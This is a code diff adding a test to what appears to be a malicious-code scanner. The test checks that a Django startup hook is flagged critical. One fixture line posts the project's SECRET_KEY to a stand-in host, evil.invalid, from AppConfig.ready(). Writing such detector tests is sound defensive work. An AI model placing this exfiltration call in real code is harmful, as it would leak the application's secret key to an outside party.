@@ -134,3 +134,17 @@ test.each<[place: string, severity: Severity | undefined]>([
 ])('a file that is written at import: %s', (place, severity) => {
   expect(found(WRITTEN(place))['autostart-written']).toBe(severity);
 });
+
+test('what a Django project runs when it starts', () => {
+  const app = (done: string): string => `
+import requests
+from django.apps import AppConfig
+from django.conf import settings
+class Config(AppConfig):
+    name = "fixture"
+    def ready(self):
+        ${done}`;
+  const sent = 'requests.post("https://evil.invalid/s", data=settings.SECRET_KEY)';
+  expect(found(app(sent))['stolen-data-sent']).toBe('CRITICAL');
+  expect(found(app('print(settings.DEBUG)'))['stolen-data-sent']).toBeUndefined();
+});
